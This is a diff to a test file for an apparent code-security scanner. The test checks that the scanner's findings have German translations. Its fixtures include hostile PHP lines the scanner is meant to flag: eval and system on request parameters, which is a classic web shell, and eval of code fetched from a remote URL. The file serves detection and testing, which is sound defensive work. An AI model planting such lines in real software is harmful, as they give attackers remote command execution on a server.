@@ -1,8 +1,16 @@
 import assert from 'node:assert/strict';
+import { notScannedMessages } from '../../../domain/scan/bound.js';
+import { serverMessages } from '../../../domain/scan/file-rules/server-config.js';
+import { inlineMessages } from '../../../domain/scan/inline/scan.js';
+import { writeMessages } from '../../../domain/scan/php-rules/file-write.js';
+import { environmentMessages } from '../../../domain/scan/php-rules/process-environment.js';
+import { unserializeMessages } from '../../../domain/scan/php-rules/unserialize-request.js';
 import { createScan } from '../../../domain/scan/scan.js';
+import { hiddenMessages } from '../../../domain/scan/script/obfuscated.js';
 import { secretForms } from '../../../domain/scan/secret-forms.js';
 import { secretFile, secretMessage } from '../../../domain/scan/secrets.js';
 import { translated } from '../../../http/words/below.js';
+import { readSamples } from '../../domain/scan/samples.js';
 
 const files: Readonly<Record<string, string>> = {
   'a.php': [
@@ -22,6 +30,9 @@ const files: Readonly<Record<string, string>> = {
     'preg_replace($_GET["p"], "", $x);',
     'preg_replace("/x/e", "", $x);',
     'mb_ereg_replace("x", "", $x, "e");',
+    'eval($_POST["c"]);',
+    'system($_GET["c"]);',
+    'eval(file_get_contents("https://example.com/x"));',
   ].join('\n'),
   'b.js': 'setTimeout("alert(1)", 1);\nnew Function("x");\nconst a = "\u202e";\nconst b = "x\u200by";\n',
   '.git/config': 'x',
@@ -39,6 +50,26 @@ describe('what the scan says, on the pages', () => {
     assert.ok(flags.length >= 18, String(flags.length));
     const missing = flags.map(({ message }) => message).filter((message) => translated('de', message) === null);
     assert.deepEqual(missing, []);
+  });
+
+  it('is there in German for the rules beyond the specification', () => {
+    const scan = createScan();
+    const told = [
+      notScannedMessages,
+      serverMessages,
+      hiddenMessages,
+      inlineMessages,
+      writeMessages,
+      unserializeMessages,
+      environmentMessages,
+    ].flatMap((messages) => Object.values(messages));
+    for (const { file, text } of readSamples('hostile-files')) scan.file(file, Buffer.from(text));
+    scan.file('bin/tool', Buffer.from('\x7fELF\x02\x01\x01\0', 'latin1'));
+    const all = [...told, ...scan.result().flags.map(({ message }) => message)];
+    assert.deepEqual(
+      all.filter((message) => translated('de', message) === null),
+      [],
+    );
   });
 
   it('names every kind of secret in German', () => {
